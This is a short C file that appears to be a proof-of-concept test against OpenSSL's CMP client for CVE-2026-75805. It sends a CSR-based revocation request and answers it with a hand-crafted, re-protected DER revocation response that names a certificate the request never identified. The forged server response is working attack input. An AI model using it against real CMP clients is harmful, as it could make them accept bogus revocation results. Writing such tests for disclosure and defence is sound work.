/* vulnerability: CVE-2026-75805: the answer to a revocation request made of a CSR names a certificate: nothing to compare that with */
#define _GNU_SOURCE
#include "support/attack.h"

static void revoke_by_request(OSSL_CMP_CTX *ctx)
{
    X509_REQ *request = client_request("ec", "new.csr");

    OSSL_CMP_CTX_set1_p10CSR(ctx, request);
    X509_REQ_free(request);
}

/* RevRepContent with one status, and revCerts [0] with a CertId whose issuer is no directoryName: none, as in the request */
static void name_certificate(struct message *message)
{
    static const unsigned char content[] = {
        0x30, 0x05, 0x30, 0x03, 0x02, 0x01, 0x00, 0xa0, 0x0d, 0x30, 0x0b, 0x30, 0x09, 0x82, 0x04, 'n', 'o',
        'n', 'e', 0x02, 0x01, 0x05,
    };

    message->body = der_wrap(0xac, der_wrap(0x30, (struct der){ content, sizeof(content) }));
    alter_protect(message, ATTACK_SECRET);
}

static int ask_revocation(OSSL_CMP_CTX *ctx) { return OSSL_CMP_exec_RR_ses(ctx) == 1; }

int main(int argc, char **argv)
{
    static const struct attack attack
        = { .spoil = name_certificate, .prepare = revoke_by_request, .transact = ask_revocation, .is_acceptable = 1 };

    return attack_main(argc, argv, &attack, "ec");
}
